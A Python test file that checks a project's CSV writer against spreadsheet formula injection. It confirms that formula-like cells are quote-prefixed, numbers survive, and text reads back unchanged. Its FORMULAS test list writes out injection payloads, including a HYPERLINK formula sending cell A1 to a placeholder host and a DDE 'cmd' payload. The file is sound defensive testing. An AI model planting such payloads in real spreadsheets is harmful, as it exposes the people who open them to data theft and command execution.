"""Text of people's in CSV: no spreadsheet takes it for a formula, and it reads back as it was."""

import csv
import io
from pathlib import Path

import pandas as pd
import pytest
from conftest import World
from hypothesis import given
from hypothesis import strategies as st

from winnow.command.line import main
from winnow.data.csv_file import csv_cell, csv_word, read_csv
from winnow.data.tables import CAPTIONS, write_table
from winnow.generation.external_images import matched_files
from winnow.generation.prompts import prompts_of
from winnow.reporting.emit.csv import csv_text
from winnow.reporting.table import Table, plain

STARTS = "=+-@\t\r\uff1d\uff0b\uff0d\uff20"
TEXT = st.text(st.characters(codec="utf-8", exclude_characters="\0"), max_size=12)
FORMULAS = [
    '=HYPERLINK("http://host.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
    "\t=1", "\r=1", "=", "-", "'=1", "''+a", "\uff1d1",
]  # fmt: skip


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@given(st.one_of(TEXT, st.builds("{}{}{}".format, st.text("'"), st.sampled_from(STARTS), TEXT)))
def test_a_cell_is_no_formula_and_reads_back(text: str) -> None:
    cell = csv_cell(text)
    assert cell[:1] not in {*STARTS} or is_number(cell)
    assert csv_word(cell) == text


@given(st.one_of(st.floats(), st.integers()))
def test_numbers_stay(value: float) -> None:
    assert csv_cell(f"{value}") == f"{value}"
    assert csv_cell(f"{value:+.3e}") == f"{value:+.3e}"


@pytest.mark.parametrize("text", FORMULAS)
def test_a_table_marks_formulas(tmp_path: Path, text: str) -> None:
    path = tmp_path / "scenes.csv"
    rows = [{text: text, "value": -0.25}, {text: "port", "value": -3}]
    rows.append({text: text, "value": "-1.50"})
    path.write_text(csv_text(Table(plain(text, "value"), rows)), newline="")
    with path.open(newline="", encoding="utf-8") as file:
        cells = list(csv.reader(file))
    assert [row[1] for row in cells[1:]] == ["-0.25", "-3", "-1.50"]
    assert not any(cell[:1] in {*STARTS} and not is_number(cell) for row in cells for cell in row)
    assert [row[text] for row in read_csv(path, [text])] == [text, "port", text]


def test_prompts_are_listed_without_formulas_and_found_again(world: World, tmp_path: Path) -> None:
    human, output = tmp_path / "human.parquet", tmp_path / "prompts.csv"
    captions = world.human.assign(text=[f"=ROW({n})" for n in range(len(world.human))])
    write_table(human, captions[list(CAPTIONS)], CAPTIONS)
    given = [f"--pool={world.pool}", f"--human={human}", f"--output={output}", "--images=4"]
    assert main(["list-prompts", *given]) == 0
    listed = pd.read_csv(io.StringIO(output.read_text()))
    assert listed["prompt"].str.startswith("'=ROW(").all()
    for name in listed["file_name"]:
        (tmp_path / name).write_bytes(b"")
    asked = prompts_of(world.pool, world.samples, captions, 4)
    assert matched_files(tmp_path, asked) == listed["file_name"].tolist()
